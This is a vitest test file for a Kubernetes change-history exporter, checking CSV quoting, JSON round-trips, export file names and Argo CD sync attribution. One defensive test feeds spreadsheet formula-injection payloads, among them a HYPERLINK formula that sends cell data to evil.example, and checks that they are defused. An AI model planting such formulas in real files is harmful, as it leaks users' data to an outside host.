import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  changesToCsv,
  changesToJson,
  exportFileName,
  guardFormula,
  quoteCsv,
} from '../lib/history-export';
import { joinCauses } from '../lib/identity/cause';
import type { Change } from '../lib/model';
import * as build from './builders';
import { APPLICATION_CHANGE, DEPLOYMENT_CHANGE, REVISION } from './cause-fixture';

const T0 = Date.parse('2025-03-10T15:00:00Z');

function change(overrides: Partial<Change> = {}): Change {
  return build.change({ clusterId: 'demo/c-m-abc12', name: 'checkout' }, T0 - 30_000, {
    id: 'c1',
    windowStart: T0 - 60_000,
    windowEnd: T0,
    reportedAt: T0 - 30_000,
    actor: { name: 'alice', kind: 'person', via: 'annotation example.com/changed-by' },
    fields: [
      { path: 'containers[app].image', before: 'shop/checkout:1.4', after: 'shop/checkout:1.5' },
      { path: 'spec.replicas', before: 3, after: 4 },
    ],
    fromVersion: 7,
    toVersion: 8,
    ...overrides,
  });
}

/** A strict RFC 4180 reader, to check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        cell += ch;
        i++;
      }
    } else if (ch === '"') {
      if (cell !== '') throw new Error(`quote inside an unquoted cell at ${i}`);
      quoted = true;
      i++;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else if (ch === '\n' || ch === '\r') {
      throw new Error(`bare line break at ${i}`);
    } else {
      cell += ch;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quote');
  if (cell !== '' || row.length) throw new Error('last record not terminated by CRLF');
  return rows;
}

describe('changesToCsv', () => {
  it('writes a header and one record per change, oldest first, with cluster names', () => {
    const later = change({ id: 'c2', at: T0, type: 'created', clusterId: 'demo/local', actor: undefined });
    const rows = parseCsv(changesToCsv([later, change()], new Map([['demo/c-m-abc12', 'prod-eu-1']])));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(3);
    const record = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]?.[i]]));
    expect(record).toMatchObject({
      at: '2025-03-10T14:59:30.000Z',
      type: 'updated',
      cluster: 'prod-eu-1',
      clusterId: 'demo/c-m-abc12',
      name: 'checkout',
      actor: 'alice',
      actorKind: 'person',
      fields: 'containers[app].image: shop/checkout:1.4 → shop/checkout:1.5; spec.replicas: 3 → 4',
      fromVersion: '7',
      toVersion: '8',
      skipped: '',
    });
    // Unknown cluster names fall back to the id; a missing actor is an empty cell.
    expect(rows[2]?.[2]).toBe('demo/local');
    expect(rows[2]?.[7]).toBe('');
  });

  it('quotes commas, quotes and line breaks', () => {
    const csv = changesToCsv([change({ changeCause: 'rollout "v2", part 1\nsee ticket\r\nOPS-12' })]);
    expect(csv).toContain('"rollout ""v2"", part 1\nsee ticket\r\nOPS-12"');
    const rows = parseCsv(csv);
    expect(rows[1]?.[CSV_COLUMNS.indexOf('changeCause')]).toBe('rollout "v2", part 1\nsee ticket\r\nOPS-12');
  });

  it('defuses cells a spreadsheet would run as a formula', () => {
    const csv = changesToCsv([
      change({
        name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
        namespace: '+cmd',
        actor: { name: '@SUM(1+1)', kind: 'person' },
        changeCause: '-2+3',
      }),
    ]);
    const rows = parseCsv(csv);
    const at = (c: (typeof CSV_COLUMNS)[number]) => rows[1]?.[CSV_COLUMNS.indexOf(c)];
    expect(at('name')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(at('namespace')).toBe("'+cmd");
    expect(at('actor')).toBe("'@SUM(1+1)");
    expect(at('changeCause')).toBe("'-2+3");
    expect(guardFormula('\t=1')).toBe("'\t=1");
    expect(guardFormula('checkout')).toBe('checkout');
    // Spreadsheets skip leading blanks and line breaks before they look for a formula.
    for (const lead of [' ', '  ', '\n', '\r\n', ' \t', '\u00a0'])
      for (const start of ['=', '+', '-', '@'])
        expect(guardFormula(`${lead}${start}1+1`)).toBe(`'${lead}${start}1+1`);
    expect(guardFormula(' checkout')).toBe(' checkout');
    expect(guardFormula('a-b')).toBe('a-b');
    // No cell of the file starts with a formula character.
    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^\s*[=+\-@]/);
  });

  it('any text survives the trip through CSV, guarded only when it could be a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-composite' }), fc.string(), (cause, name) => {
        const rows = parseCsv(changesToCsv([change({ changeCause: cause, name })]));
        expect(rows[1]?.[CSV_COLUMNS.indexOf('changeCause')]).toBe(guardFormula(cause));
        expect(rows[1]?.[CSV_COLUMNS.indexOf('name')]).toBe(guardFormula(name));
      }),
    );
  });

  it('quotes only what needs it', () => {
    expect(quoteCsv('plain')).toBe('plain');
    expect(quoteCsv('a,b')).toBe('"a,b"');
    expect(quoteCsv('say "hi"')).toBe('"say ""hi"""');
    expect(changesToCsv([])).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
  });
});

describe('changesToJson', () => {
  it('is an array that round-trips every change exactly, with the cluster name beside it', () => {
    const changes = [
      change({ id: 'b', at: T0 }),
      change({ id: 'a', actorStale: true, skipped: 2, fields: [{ path: 'spec.paused', after: true }] }),
    ];
    const parsed = JSON.parse(changesToJson(changes, { 'demo/c-m-abc12': 'prod-eu-1' })) as (Change & {
      clusterName?: string;
    })[];
    expect(Array.isArray(parsed)).toBe(true);
    expect(parsed.map((c) => c.clusterName)).toEqual(['prod-eu-1', 'prod-eu-1']);
    const back = parsed.map(({ clusterName: _, ...rest }) => rest);
    expect(back).toEqual([changes[1], changes[0]]);
  });

  it('round-trips arbitrary field values', () => {
    const value = fc.oneof(
      fc.string(),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(fc.string(), { maxLength: 3 }),
    );
    fc.assert(
      fc.property(
        fc.array(fc.record({ path: fc.string(), before: value, after: value }), { maxLength: 4 }),
        (fields) => {
          const original = [change({ fields })];
          expect(JSON.parse(changesToJson(original))).toEqual(original);
        },
      ),
    );
  });
});

it('names export files by time, safely for every file system', () => {
  expect(exportFileName('csv', T0)).toBe('tattler-changes-2025-03-10T15-00-00Z.csv');
  expect(exportFileName('json', T0)).toBe('tattler-changes-2025-03-10T15-00-00Z.json');
});

describe('a change an Argo CD sync caused, exported', () => {
  it('is one row headed by the sync’s actor, with where that comes from and the Application’s view', () => {
    const same = () => 'prod-eu-1';
    const joined = joinCauses([DEPLOYMENT_CHANGE, APPLICATION_CHANGE], same);
    const rows = parseCsv(changesToCsv(joined));
    expect(rows.filter((r) => r.length > 1)).toHaveLength(2);
    const record = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, rows[1]?.[i]]));
    expect(record).toMatchObject({
      actor: 'carol',
      actorKind: 'person',
      name: 'cart',
      kind: 'Deployment',
      fields: 'containers[cart].image: shop/cart:2.0.1 → shop/cart:2.1.0',
      syncedVia: 'via Argo CD sync of cart, revision 0b0f8f9',
      appliedBy: 'argocd-controller',
      syncLink: APPLICATION_CHANGE.link,
      syncId: APPLICATION_CHANGE.id,
    });
    expect(record.syncFields).toContain(
      `sync.revision: a1b2c3d4e5f60718293a4b5c6d7e8f9012345678 → ${REVISION}`,
    );
  });
});
